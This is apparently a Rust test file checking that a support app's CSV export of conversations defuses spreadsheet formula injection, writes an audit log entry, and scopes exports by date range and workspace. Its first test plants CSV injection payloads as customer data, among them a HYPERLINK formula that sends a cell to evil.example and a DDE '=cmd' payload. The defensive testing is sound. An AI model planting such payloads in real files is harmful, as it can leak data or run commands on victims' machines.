//! What a lead takes away as a table: nothing in it is run by the program that opens it.

use axum::body::{Body, to_bytes};
use axum::http::{Request, header};
use serde_json::json;
use tower::ServiceExt;

use crate::shop::{As, Shop};

impl Shop {
    /// What an agent gets as a file, as text.
    pub async fn text(&self, path: &str, who: &As) -> (u16, axum::http::HeaderMap, String) {
        let As::Agent { cookie, .. } = who else {
            panic!("only agents download tables")
        };
        let request = Request::get(path)
            .header(header::HOST, "segue.test")
            .header(header::COOKIE, cookie)
            .body(Body::empty())
            .unwrap();
        let response = self.router.clone().oneshot(request).await.unwrap();
        let (parts, body) = response.into_parts();
        let bytes = to_bytes(body, 1 << 24).await.unwrap();
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        (parts.status.as_u16(), parts.headers, text)
    }
}

async fn download(shop: &Shop, who: &As, days: u32) -> (u16, axum::http::HeaderMap, String) {
    let path = format!("/api/console/measures/conversations?days={days}");
    shop.text(&path, who).await
}

/// Attack case 36.
#[tokio::test]
async fn a_table_of_conversations_runs_nothing_that_a_customer_wrote() {
    let shop = Shop::open().await;
    let program = As::Program("sga_Shop".into());
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"your invoice\")";
    let contact = json!({ "name": formula, "email": "a@b.example", "plan": "@SUM(A1)" });
    let key = [("idempotency-key", "contact-1")];
    let (status, _, made) = shop
        .raw("POST", "/api/v1/contacts", &program, Some(contact), &key)
        .await;
    assert_eq!(status, 201, "{made}");
    let opening = json!({ "contact_id": made["id"] });
    let (status, view) = shop.post("/api/v1/conversations", &program, opening).await;
    assert_eq!(status, 201, "{view}");
    let path = format!(
        "/api/v1/conversations/{}/messages",
        view["id"].as_str().unwrap()
    );
    let line =
        json!({ "client_message_id": "message-1", "text": "-1+1, \"agent\"\r\n=cmd|'/C calc'!A0" });
    let (status, sent) = shop.post(&path, &program, line).await;
    assert_eq!(status, 200, "{sent}");

    let maya = shop.sign_in("maya@shop.example").await;
    let (status, headers, text) = download(&shop, &maya, 30).await;
    assert_eq!(status, 200, "{text}");
    assert_eq!(headers[header::CONTENT_TYPE], "text/csv; charset=utf-8");
    assert_eq!(
        headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"conversations.csv\""
    );
    let lines: Vec<&str> = text
        .trim_start_matches('\u{feff}')
        .trim_end()
        .split("\r\n")
        .collect();
    assert_eq!(lines.len(), 2, "one conversation is one line: {text}");
    assert!(
        lines[0].starts_with("\"conversation\",\"opened_at\""),
        "{text}"
    );
    let cells: Vec<&str> = lines[1].trim_matches('"').split("\",\"").collect();
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "{cell} is run: {text}"
        );
    }
    assert!(lines[1].contains("\"'=HYPERLINK(\"\"https"), "{text}");
    assert!(
        lines[1].contains("\"'@SUM(A1)\"") && lines[1].contains("\"'-1+1, "),
        "{text}"
    );
    // Who took it away stands in the log.
    let (_, log) = shop
        .get("/api/console/audit?action=conversations_exported", &maya)
        .await;
    assert_eq!(log["entries"][0]["detail"]["conversations"], "1", "{log}");
}

#[tokio::test]
async fn a_table_holds_the_period_that_was_asked_for_and_no_other_company() {
    let shop = Shop::open().await;
    shop.add_workspace("Other", &["eve"]).await;
    for _ in 0..3 {
        shop.arrive().await;
        shop.desk.clock.advance(24 * 60 * 60 * 1_000);
    }
    let maya = shop.sign_in("maya@shop.example").await;
    let eve = shop.sign_in("eve@other.example").await;
    // Days on the wall, today among them.
    for (who, days, expected) in [(&maya, 30, 3), (&maya, 3, 2), (&eve, 30, 0)] {
        let (status, _, text) = download(&shop, who, days).await;
        assert_eq!(
            (status, text.lines().count()),
            (200, expected + 1),
            "{days}: {text}"
        );
    }
}
